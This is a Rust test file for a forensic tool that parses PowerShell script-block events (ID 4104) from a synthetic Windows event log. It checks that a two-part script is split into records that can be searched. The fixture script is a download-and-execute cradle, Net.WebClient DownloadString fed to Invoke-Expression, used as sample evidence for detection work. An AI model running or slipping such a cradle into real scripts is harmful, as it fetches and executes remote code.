//! PowerShell scripts that are split over several events (4104): every part is a record of its own, with its place.

use crate::fixture::{text, wide};
use ledger::Record;
use serde_json::json;
use std::fs;
use testkit::evtx::{self, Event};
use testkit::samples::TICKS;
use tools::run;

const BLOCK: &str = "0a1b2c3d-0000-4000-8000-000000000001";
const PARTS: [&str; 2] =
    ["$client = New-Object Net.WebClient; ", "Invoke-Expression $client.DownloadString('x')"];

fn log() -> Vec<u8> {
    let data = |number: &'static str, part: &'static str| {
        [
            ("MessageNumber", number),
            ("MessageTotal", "2"),
            ("ScriptBlockText", part),
            ("ScriptBlockId", BLOCK),
            ("Path", "C:\\Tools\\get.ps1"),
        ]
    };
    let event = |record_id, data| Event {
        record_id,
        time: TICKS + record_id,
        provider: "Microsoft-Windows-PowerShell",
        guid: Some("{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"),
        event_id: 4104,
        level: 3,
        channel: "Microsoft-Windows-PowerShell/Operational",
        computer: "PC-1",
        user_sid: Some("S-1-5-21-1-2-3-1001"),
        user_data: None,
        data,
    };
    evtx::log(&[event(1, &data("1", PARTS[0])), event(2, &data("2", PARTS[1]))])
}

#[expect(clippy::disallowed_methods, reason = "a test makes its own evidence")]
fn found(arguments: serde_json::Value) -> Vec<Record> {
    let (folder, scratch) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    fs::write(folder.path().join("PowerShell.evtx"), log()).unwrap();
    let tree = evidence::open_directory(folder.path(), "files").unwrap();
    run("records", &arguments, &[Box::new(tree)], scratch.path()).records
}

#[test]
fn each_part_says_which_it_is_of_which_block_and_where_its_words_stand() {
    let log = log();
    let parts = found(json!({ "source": "event_log", "where": "event_id = 4104" }));
    assert_eq!(parts.len(), 2);
    for (part, (number, words)) in parts.iter().zip([("1", PARTS[0]), ("2", PARTS[1])]) {
        assert_eq!(part.kind, "powershell_script");
        assert_eq!((text(part, "part"), text(part, "parts")), (number.into(), "2".into()));
        assert_eq!(text(part, "script_block"), BLOCK);
        assert_eq!(text(part, "text"), words);
        let at = part.fields["text"].at.unwrap();
        assert_eq!(&log[at.offset as usize..at.end() as usize], wide(words));
    }
}

#[test]
fn words_are_found_in_the_part_that_holds_them() {
    for (words, part) in [("Net.WebClient", "1"), ("downloadstring", "2")] {
        let parts = found(json!({ "source": "event_log", "where": "event_id = 4104", "text": words }));
        let numbers: Vec<_> = parts.iter().map(|found| text(found, "part")).collect();
        assert_eq!(numbers, [part], "{words}");
    }
    for asked in [
        json!({ "source": "event_log", "text": BLOCK }),
        json!({ "record": "powershell_script", "where": format!("script_block = '{BLOCK}'") }),
    ] {
        assert_eq!(found(asked).len(), 2, "the parts of a block are found by its number");
    }
}
